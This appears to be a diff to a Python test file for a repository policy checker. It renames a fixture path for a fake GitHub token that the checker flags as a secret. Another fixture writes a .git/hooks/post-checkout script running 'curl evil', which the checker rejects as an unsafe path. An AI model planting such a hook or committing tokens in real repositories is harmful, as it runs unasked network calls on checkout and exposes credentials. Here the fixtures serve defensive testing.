@@ -260,11 +260,11 @@ def test_policy_change_merged_without_approval(world: World) -> None:
     [
         (
             {
-                "config/token.txt": (
+                "config/settings.txt": (
                     "token = ghp_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0" + "4N2q2A\n"
                 ).encode()
             },
-            "adds what looks like a secret: config/token.txt:1: github-token",
+            "adds what looks like a secret: config/settings.txt:1: github-token",
         ),
         ({".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil\n"}, "unsafe path '.git/hooks/"),
     ],
